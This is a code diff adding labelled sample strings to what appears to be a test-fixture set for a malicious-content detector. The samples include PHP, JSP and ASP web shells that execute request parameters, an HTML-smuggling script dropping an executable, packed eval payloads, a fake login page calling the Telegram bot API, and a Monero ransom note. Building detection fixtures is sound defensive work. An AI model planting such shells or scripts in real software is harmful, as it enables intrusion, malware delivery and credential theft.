@@ -87,3 +87,54 @@ PAIRS = {
         ),
     ),
 }
+
+ALSO = {
+    "PHP_Eval_Request": [
+        text("<?= assert($_REQ¦UEST['c']) ?>"),
+        text("GIF89a<?php ev¦al(gzinflate(base64_decode($_COO¦KIE[1])));"),
+        text("<?php ev¦al(base64_de¦code(file_get_con¦tents('php://input')));"),
+        text("<?php $f = create_func¦tion('', $_PO¦ST['c']); $f();"),
+    ],
+    "PHP_Command_From_Request": [
+        text("<?php echo `{$_G¦ET['c']}`;"),
+        text("<?php $_G¦ET['f']($_PO¦ST['c']);"),
+        text("<?php @pass¦thru(base64_decode($_REQ¦UEST['c']));"),
+    ],
+    "PHP_Packed_Eval": [text(f"<?php ev¦al('?>'.base64_de¦code('{LONG}'));")],
+    "JSP_Command_Shell": [
+        text(
+            '<%! %><% ProcessBuilder b = new ProcessBuil¦der("cmd.exe", "/c", request.getParameter("c"));\n'
+            "out.print(b.start().getInput¦Stream()); %>"
+        ),
+        text('<% Runtime.getRun¦time().exec(request.getPara¦meter("c")).getInputStream(); %>'),
+    ],
+    "ASP_Command_Shell": [
+        text('<%ex¦ecute request("c")%>'),
+        text(
+            '<%@ Page Language="C#" %><script runat="server">void P() { var p = new ProcessStart¦Info();\n'
+            'p.FileName = "cmd.exe"; p.Arguments = "/c " + Request.Form["c"]; }</script>'
+        ),
+        text('<% Set s = Server.CreateObject("WScript.Sh¦ell")\nSet e = s.Exec("cmd /c " & Request.Form("c")) %>'),
+    ],
+    "HTML_Smuggling": [
+        text(f"<script>var b=new Bl¦ob([at¦ob('{PROGRAM}')]);navigator.msSaveOrOpen¦Blob(b,'a.exe')</script>"),
+    ],
+    "SVG_Script_Redirect": [
+        text('<?xml version="1.0"?><svg onload="location.repl¦ace(\'https://example.invalid/\')"></svg>'),
+        text("<svg><script>ev¦al(at¦ob('YWxlcnQoMSk='))</script></svg>"),
+    ],
+    "HTML_Packed_Script": [text(f"<script>ev¦al(at¦ob('{LONG}'))</script>")],
+    "HTML_Attachment_Login_Form": [
+        login("#", "").replace(
+            b"</body>", text("<script>fetch('https://api.tele¦gram.org/bot123456789:x')</script></body>")
+        ),
+    ],
+    "Ransom_Note": [
+        text(
+            "We have encr¦ypted your network. Pay the ransom in Mon¦ero (XMR) or your data will be published.\n"
+            "Write to " + "a2" * 28 + ".onion within 48 hours. You can decrypt two files for free.\n"
+        )
+        .decode()
+        .encode("utf-16-le"),
+    ],
+}
